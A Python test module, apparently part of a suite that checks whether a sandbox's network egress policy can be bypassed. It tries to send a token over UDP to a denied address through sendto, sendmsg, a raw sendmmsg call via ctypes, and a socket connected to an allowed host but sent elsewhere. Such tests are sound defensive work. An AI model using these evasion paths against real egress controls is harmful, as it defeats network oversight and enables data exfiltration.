# SPDX-License-Identifier: Apache-2.0
"""sendto, sendmsg, sendmmsg, connectionless and with options: the same verdict."""
import ctypes
import socket

from bypass import INET

TITLE = "sendto, sendmsg, sendmmsg to a denied address"
THREAT = "53"


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("msg_len", ctypes.c_uint32)]


def attack(c):
    with c.step("sendto") as token:
        with socket.socket(INET[c.family], socket.SOCK_DGRAM) as s:
            s.sendto(token.encode(), (c.e, 9999))
    with c.step("sendmsg") as token:
        with socket.socket(INET[c.family], socket.SOCK_DGRAM) as s:
            s.sendmsg([token.encode()], [], 0, (c.e, 9999))
    with c.step("sendmmsg on a connected socket") as token:
        with socket.socket(INET[c.family], socket.SOCK_DGRAM) as s:
            s.connect((c.e, 9999))
            data = ctypes.create_string_buffer(token.encode())
            iov = Iovec(ctypes.cast(data, ctypes.c_void_p), len(token))
            m = Msghdr(None, 0, ctypes.pointer(iov), 1, None, 0, 0, 0)
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.sendmmsg(s.fileno(), ctypes.byref(m), 1, 0) != 1:
                raise OSError(ctypes.get_errno(), "sendmmsg")
    with c.step("connected to the allowed host, sent elsewhere") as token:
        with socket.socket(INET[c.family], socket.SOCK_DGRAM) as s:
            s.connect((c.a, 443))
            s.sendto(token.encode(), (c.e, 9999))
